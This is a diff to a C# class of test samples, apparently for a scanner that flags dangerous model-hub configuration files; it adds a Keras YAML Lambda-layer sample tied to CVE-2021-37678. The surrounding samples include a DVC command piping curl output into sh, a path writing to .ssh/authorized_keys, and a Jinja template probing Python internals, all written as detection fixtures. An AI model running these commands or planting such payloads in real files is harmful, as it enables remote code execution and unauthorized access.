@@ -90,6 +90,7 @@ static class HubSamples
         ["conda with a channel of its own"] = Y("name: x\nchannels:\n- http://example.org/channel\ndependencies:\n- python\n", Severity.Medium, "environment-source"),
         ["DVC stage that fetches and runs"] = Y("stages:\n  prepare:\n    cmd: curl http://example.org/x | sh\n", Severity.High, "dvc-command"),
         ["DVC output outside"] = Y("outs:\n- md5: 0123\n  path: ../../.ssh/authorized_keys\n", Severity.Medium, "yaml-path-outside"),
+        ["CVE-2021-37678 Lambda layer"] = Y("backend: tensorflow\nclass_name: Sequential\nconfig:\n  layers:\n  - class_name: Lambda\n    config:\n      function: !!python/tuple [4wEAAAAAAAAA, null, null]\n", Severity.High, "keras-yaml-lambda"),
         ["template in YAML"] = Y("chat_template: \"{{ ''.__class__.__base__ }}\"\n", Severity.High, "jinja-internals"),
     };
 
